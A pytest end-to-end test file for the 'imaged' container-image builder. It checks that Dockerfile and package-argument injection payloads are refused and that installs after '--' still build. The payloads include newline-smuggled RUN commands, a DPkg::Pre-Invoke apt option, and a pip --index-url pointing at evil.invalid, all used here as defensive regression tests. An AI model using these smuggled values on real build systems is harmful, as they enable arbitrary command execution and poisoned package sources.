"""End to end: the injection payloads of issue 11 against the real engine, and a legitimate
apt + pip install that still builds with ``--`` before the packages.

Each payload built into /pwned (or made uv fetch from evil.invalid) before imaged.spec.checks
existed; the test builds it for real if it is ever accepted again, so a regression shows as
the planted file, not as a missing error.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from e2e_support import docker, run_id

from imaged import Image, build
from imaged.errors import BuildError, SpecError
from imaged.spec import image as image_module

pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]

RUN = run_id()
Payload = Callable[[str], Image]
PAYLOADS = [
    pytest.param(lambda b: Image.from_base(b).with_workdir("/app\nRUN touch /pwned"), id="workdir"),
    pytest.param(lambda b: Image.from_base(b + "\nRUN touch /pwned"), id="base-ref"),
    pytest.param(
        lambda b: Image.from_base(b).with_apt_packages("-oDPkg::Pre-Invoke::=touch /pwned", "jq"),
        id="apt-option",
    ),
    pytest.param(
        lambda b: Image.from_base(b).with_pip_packages(
            "--index-url=http://evil.invalid/simple", "tomli"
        ),
        id="pip-option",
    ),
]


@pytest.fixture
def engine_env(infra: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Settings for a local build; yields a list the test appends built URIs to (removed)."""
    monkeypatch.setenv("IMAGED_DEBIAN_BASE", infra.debian_base_template)
    monkeypatch.setenv("IMAGED_DOCKER_CLI", infra.docker_cli)
    monkeypatch.delenv("IMAGED_REGISTRY", raising=False)
    if infra.ca_bundle:
        monkeypatch.setenv("IMAGED_BUILD_CA_BUNDLE", infra.ca_bundle)
    if infra.docker_host:
        monkeypatch.setenv("DOCKER_HOST", infra.docker_host)
    built: list[str] = []
    yield built
    for uri in built:
        docker(infra.docker_cli, "rmi", "-f", uri, check=False)


def planted(infra: Any, payload: Image, built: list[str]) -> str:
    """Build an accepted payload for real; what `ls /pwned` says inside the image."""
    try:
        result = build(payload)
    except BuildError as exc:
        return f"build failed: {str(exc)[-400:]}"
    built.append(result.uri)
    return docker(infra.docker_cli, "run", "--rm", result.uri, "ls", "/pwned", check=False).stdout


@pytest.mark.parametrize("make", PAYLOADS)
def test_injection_payload_is_refused_at_definition(
    infra: Any, engine_env: list[str], make: Payload
) -> None:
    refused: SpecError | None = None
    try:
        image = make(infra.debian_base).clone(name=f"sec-pwn-{RUN}")
    except SpecError as exc:
        refused = exc
    if refused is None:
        shown = planted(infra, image, engine_env)
        pytest.fail(f"accepted at definition; built, the image shows: {shown!r}")
    assert "line break" in str(refused) or "starts with '-'" in str(refused)


def test_render_backstop_stops_a_build_before_the_engine(
    infra: Any, engine_env: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the definition check off, `build` still refuses: no image named so exists after."""
    monkeypatch.setattr(image_module, "check_image", lambda image: None)
    image = Image.from_base(infra.debian_base).with_workdir("/app\nRUN touch /pwned")
    image = image.clone(name=f"sec-backstop-{RUN}")
    with pytest.raises(SpecError, match="workdir"):
        build(image)
    listed = docker(infra.docker_cli, "images", "-q", f"sec-backstop-{RUN}").stdout
    assert listed.strip() == ""


def test_apt_and_pip_install_after_a_double_dash(
    infra: Any, engine_env: list[str], tmp_path: Path
) -> None:
    image = (
        Image.from_debian_base(python_version=(3, 11), name=f"sec-dashdash-{RUN}")
        .with_apt_packages("jq")
        .with_pip_packages("tomli==2.0.1")
    )
    result = build(image, dry_run=True)
    assert "--no-install-recommends -- jq" in (result.dockerfile or "")
    assert "uv pip install -- tomli==2.0.1" in (result.dockerfile or "")
    result = build(image)
    engine_env.append(result.uri)
    probe = "jq -n '[1,2] | add' && python3 -c 'import tomli; print(tomli.__name__)'"
    out = docker(infra.docker_cli, "run", "--rm", result.uri, "sh", "-c", probe).stdout
    assert out.split() == ["3", "tomli"]
